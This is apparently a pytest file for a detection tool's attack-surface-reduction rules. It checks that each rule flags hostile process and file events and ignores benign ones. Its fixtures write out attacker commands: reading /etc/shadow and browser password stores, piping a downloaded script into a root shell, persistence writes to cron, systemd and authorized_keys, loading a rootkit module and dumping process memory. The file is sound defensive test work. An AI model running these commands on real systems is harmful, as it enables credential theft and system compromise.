"""Each ASR rule: matches its behaviour, not its benign neighbours; an exclusion exempts; Off does nothing."""

from __future__ import annotations

from typing import Any

import pytest

from vigil.asr import (
    RULES,
    AsrMode,
    AsrPolicy,
    AsrPolicySet,
    DuplicateAsrRule,
    Exclusion,
    UnknownAsrRule,
    catalogue,
    evaluate,
    find,
)
from vigil.asr.model import AsrRule


def proc(path: str, cmd: str, parent: str = "/usr/bin/bash", grandparent: str = "sshd", **extra: Any) -> dict:
    return {
        "ActionType": "ProcessCreated",
        "FolderPath": path,
        "FileName": path.rsplit("/", 1)[-1],
        "ProcessCommandLine": cmd,
        "InitiatingProcessFolderPath": parent,
        "InitiatingProcessFileName": parent.rsplit("/", 1)[-1],
        "InitiatingProcessParentFileName": grandparent,
        **extra,
    }


def write(path: str, actor: str, grandparent: str = "bash", action: str = "FileCreated") -> dict:
    return {
        "ActionType": action,
        "FolderPath": path,
        "FileName": path.rsplit("/", 1)[-1],
        "InitiatingProcessFolderPath": actor,
        "InitiatingProcessFileName": actor.rsplit("/", 1)[-1],
        "InitiatingProcessParentFileName": grandparent,
    }


def pipeline(*names: str) -> dict:
    return {
        "ActionType": "PipelineCreated",
        "FolderPath": f"/usr/bin/{names[0]}",
        "FileName": names[0],
        "ProcessCommandLine": " | ".join(names),
        "InitiatingProcessFileName": "bash",
        "PipelineMembers": [{"FileName": n, "ProcessId": i + 10} for i, n in enumerate(names)],
    }


# (rule name, rows it matches, benign neighbours it must not match)
CASES: list[tuple[str, list[dict], list[dict]]] = [
    (
        "OfficePdfChildShell",
        [
            proc("/usr/bin/bash", "bash -c id", parent="/usr/lib/libreoffice/program/soffice.bin"),
            proc("/usr/bin/python3.12", "python3.12 -c x", parent="/usr/bin/evince"),
        ],
        [
            proc(
                "/usr/lib/libreoffice/program/soffice.bin",
                "soffice.bin",
                parent="/usr/lib/libreoffice/program/oosplash",
            ),
            proc("/usr/bin/bash", "bash", parent="/usr/bin/gnome-terminal"),
            proc("/usr/bin/xdg-open", "xdg-open a.pdf", parent="/usr/bin/evince"),
        ],
    ),
    (
        "BrowserChildShell",
        [
            proc("/bin/sh", "sh -c 'curl x'", parent="/usr/lib/firefox/firefox"),
            proc("/usr/bin/perl", "perl -e 1", parent="/opt/google/chrome/chrome"),
        ],
        [
            proc("/usr/lib/firefox/crashreporter", "crashreporter", parent="/usr/lib/firefox/firefox"),
            proc("/opt/google/chrome/chrome", "chrome --type=renderer", parent="/opt/google/chrome/chrome"),
        ],
    ),
    (
        "ExecFromTempOrRemovable",
        [
            proc("/tmp/x", "/tmp/x"),
            proc("/dev/shm/.m/miner", "miner"),
            proc("/media/usb/run.bin", "run.bin"),
            proc("/usr/bin/python3", "python3 -u /var/tmp/stage2.py"),
            proc("/usr/bin/bash", "bash /tmp/i.sh"),
        ],
        [
            proc("/usr/bin/ls", "ls /tmp", ProcessCurrentWorkingDirectory="/tmp"),
            proc("/tmpfs/tool", "tool"),
            proc("/usr/bin/python3", "python3 -c 'open(\"/tmp/x\")'"),
            proc("/usr/bin/cp", "cp /tmp/a /tmp/b"),
        ],
    ),
    (
        "ServerChildShell",
        [
            proc("/bin/sh", "sh -c 'id'", parent="/usr/sbin/nginx"),
            proc("/usr/bin/bash", "bash -i", parent="/usr/sbin/php-fpm8.2"),
            proc("/bin/sh", "sh -c whoami", parent="/usr/lib/postgresql/16/bin/postgres"),
        ],
        [
            proc("/usr/sbin/apache2", "apache2 -k start", parent="/usr/sbin/apache2"),
            proc(
                "/usr/lib/postgresql/16/bin/postgres",
                "postgres: checkpointer",
                parent="/usr/lib/postgresql/16/bin/postgres",
            ),
            proc("/bin/sh", "sh -c id", parent="/usr/sbin/cron"),
        ],
    ),
    (
        "CredentialStoreRead",
        [
            proc("/usr/bin/cat", "cat /etc/shadow"),
            proc("/usr/bin/cp", "cp /etc/ssh/ssh_host_ed25519_key /tmp/k"),
            proc("/usr/bin/python3", "python3 steal.py /home/a/.mozilla/firefox/x.default/logins.json"),
            proc("/usr/bin/sqlite3", "sqlite3 '/home/a/.config/google-chrome/Default/Login Data'"),
        ],
        [
            proc("/usr/bin/cat", "cat /etc/ssh/ssh_host_ed25519_key.pub"),
            proc("/usr/bin/passwd", "passwd /etc/shadow"),
            proc("/usr/bin/cat", "cat /etc/shadowsocks.json"),
            proc("/usr/bin/cat", "cat /etc/passwd"),
        ],
    ),
    (
        "DownloadPipedToShell",
        [
            pipeline("curl", "bash"),
            pipeline("wget", "tee", "python3"),
            proc("/usr/bin/bash", "bash -c 'curl -fsSL https://x.example/i.sh | sudo -E sh'"),
        ],
        [
            pipeline("curl", "jq"),
            pipeline("bash", "curl"),
            proc("/usr/bin/bash", "bash -c 'curl -o f https://x'"),
            proc("/usr/bin/curl", "curl https://x | sh"),
        ],
    ),
    (
        "PersistenceWrite",
        [
            write("/etc/cron.d/updater", "/usr/bin/python3"),
            write("/etc/systemd/system/x.service", "/tmp/dropper"),
            write("/etc/ld.so.preload", "/usr/bin/tee"),
            write("/root/.ssh/authorized_keys", "/usr/bin/bash"),
            write("/home/a/.bashrc", "/usr/bin/perl", action="FileModified"),
        ],
        [
            write("/etc/systemd/system/x.service", "/usr/bin/dpkg"),
            write("/var/spool/cron/crontabs/a", "/usr/bin/crontab"),
            write("/etc/cron.d/pkg", "/usr/bin/cp", grandparent="dpkg"),
            write("/home/a/.bashrc", "/usr/bin/vim"),
            write("/home/a/.bashrc.bak", "/usr/bin/python3"),
            write("/etc/cron.d/x", "/usr/bin/python3", "bash", "FileDeleted"),
        ],
    ),
    (
        "KernelModuleLoad",
        [
            proc("/usr/sbin/insmod", "insmod /tmp/rk.ko"),
            proc("/usr/sbin/modprobe", "modprobe evil", parent="/usr/bin/python3"),
        ],
        [
            proc("/usr/sbin/modprobe", "modprobe -r usb_storage"),
            proc("/usr/sbin/modprobe", "modprobe nf_tables", parent="/usr/bin/dpkg"),
            proc("/usr/sbin/modprobe", "modprobe -q -- fs-xfs", parent=""),
            proc("/usr/sbin/modprobe", "modprobe x", parent="/usr/lib/systemd/systemd-udevd"),
            proc("/usr/sbin/modinfo", "modinfo ext4"),
        ],
    ),
    (
        "ProcessMemoryAccess",
        [
            proc("/usr/bin/dd", "dd if=/proc/812/mem bs=1 skip=4096"),
            proc("/usr/bin/strace", "strace -p $(pidof sshd)"),
            proc("/usr/bin/gdb", "gdb --pid=$(pgrep -o sshd)"),
            proc("/usr/bin/python3", "python3 mimipenguin.py"),
        ],
        [
            proc("/usr/bin/gdb", "gdb -p 4242"),
            proc("/usr/bin/cat", "cat /proc/812/maps"),
            proc("/usr/bin/cat", "cat /proc/meminfo"),
            proc("/usr/bin/pgrep", "pgrep sshd"),
        ],
    ),
]


def test_catalogue_covers_every_case_and_guids_are_fixed() -> None:
    assert [r.name for r in catalogue()] == [name for name, _, _ in CASES]
    assert find("1b50ad5c-03f8-4b19-949d-5e48ad91567c").name == "OfficePdfChildShell"
    assert find("BF3BF9AB-72DA-46CC-99AE-C0104E963F8A").name == "ProcessMemoryAccess"
    for entry in catalogue():
        assert entry.technique.startswith("T") and entry.title and entry.description and entry.limits
        assert len(entry.guid) == 36


def test_unknown_and_duplicate_rules() -> None:
    with pytest.raises(UnknownAsrRule, match="PersistenceWrite"):
        find("NoSuchRule")
    first = catalogue()[0]
    with pytest.raises(DuplicateAsrRule):
        RULES.register(first.guid, first)


def _policy(entry: AsrRule, mode: AsrMode, **kw: Any) -> AsrPolicySet:
    return AsrPolicySet(default=AsrPolicy(modes={entry.guid: mode}, **kw))


@pytest.mark.parametrize(("name", "hits", "benign"), CASES, ids=[c[0] for c in CASES])
def test_rule(name: str, hits: list[dict], benign: list[dict]) -> None:
    entry = find(name)
    everything = catalogue()
    for row in hits:
        assert entry.matches(entry.table, row), row
        for mode in (AsrMode.BLOCK, AsrMode.AUDIT, AsrMode.WARN):
            decisions = [d for d in evaluate(everything, _policy(entry, mode), None, entry.table, row)]
            assert [d.rule.name for d in decisions] == [name]
            assert decisions[0].action_type == f"Asr{name}{mode.verb}"
            assert decisions[0].prevents is (mode is not AsrMode.AUDIT)
        # Off does nothing
        assert evaluate(everything, _policy(entry, AsrMode.OFF), None, entry.table, row) == []
        # another table's row never matches
        assert not entry.matches("DeviceNetworkEvents", row)
    for row in benign:
        assert not entry.matches(entry.table, row), row
        assert evaluate(everything, _policy(entry, AsrMode.BLOCK), None, entry.table, row) == []


@pytest.mark.parametrize(("name", "hits", "benign"), CASES, ids=[c[0] for c in CASES])
def test_exclusions_exempt(name: str, hits: list[dict], benign: list[dict]) -> None:
    entry = find(name)
    row = hits[0]
    by_path = Exclusion(str(row["FolderPath"]), "path")
    by_process = Exclusion(str(row["InitiatingProcessFileName"]), "process")
    for policy in (
        _policy(entry, AsrMode.BLOCK, exclusions=(by_path,)),
        _policy(entry, AsrMode.BLOCK, rule_exclusions={entry.guid: (by_process,)}),
    ):
        assert evaluate(catalogue(), policy, None, entry.table, row) == []
    # an exclusion for another rule does not exempt this one
    other = next(r for r in catalogue() if r.guid != entry.guid)
    policy = _policy(entry, AsrMode.BLOCK, rule_exclusions={other.guid: (by_path,)})
    assert [d.rule.guid for d in evaluate(catalogue(), policy, None, entry.table, row)] == [entry.guid]


def test_group_policy_precedence() -> None:
    entry = find("ExecFromTempOrRemovable")
    row = proc("/tmp/x", "/tmp/x")
    policies = AsrPolicySet(
        default=AsrPolicy(modes={entry.guid: AsrMode.AUDIT}),
        groups={
            1: AsrPolicy(modes={entry.guid: AsrMode.BLOCK}),
            2: AsrPolicy(modes={entry.guid: AsrMode.OFF}),
            3: AsrPolicy(exclusions=(Exclusion("/tmp/*"),)),
        },
    )
    assert [d.mode for d in evaluate(catalogue(), policies, 1, entry.table, row)] == [AsrMode.BLOCK]
    assert evaluate(catalogue(), policies, 2, entry.table, row) == []  # the group turns it off
    assert evaluate(catalogue(), policies, 3, entry.table, row) == []  # the group's exclusion, default's mode
    assert [d.mode for d in evaluate(catalogue(), policies, 9, entry.table, row)] == [AsrMode.AUDIT]
    assert [d.mode for d in evaluate(catalogue(), policies, None, entry.table, row)] == [AsrMode.AUDIT]
    # a default exclusion exempts in every group
    excluded = AsrPolicySet(default=AsrPolicy(exclusions=(Exclusion("/tmp/x"),)), groups=policies.groups)
    assert evaluate(catalogue(), excluded, 1, entry.table, row) == []


def test_modes_and_exclusion_validation() -> None:
    assert [AsrMode.parse(v) for v in ("Off", "1", "audit", 6)] == [
        AsrMode.OFF,
        AsrMode.BLOCK,
        AsrMode.AUDIT,
        AsrMode.WARN,
    ]
    for bad in ("Enforce", 3, True, None):
        with pytest.raises(ValueError, match="unknown ASR mode"):
            AsrMode.parse(bad)
    with pytest.raises(ValueError, match="kind"):
        Exclusion("/x", "user")
    with pytest.raises(ValueError, match="pattern"):
        Exclusion("  ")
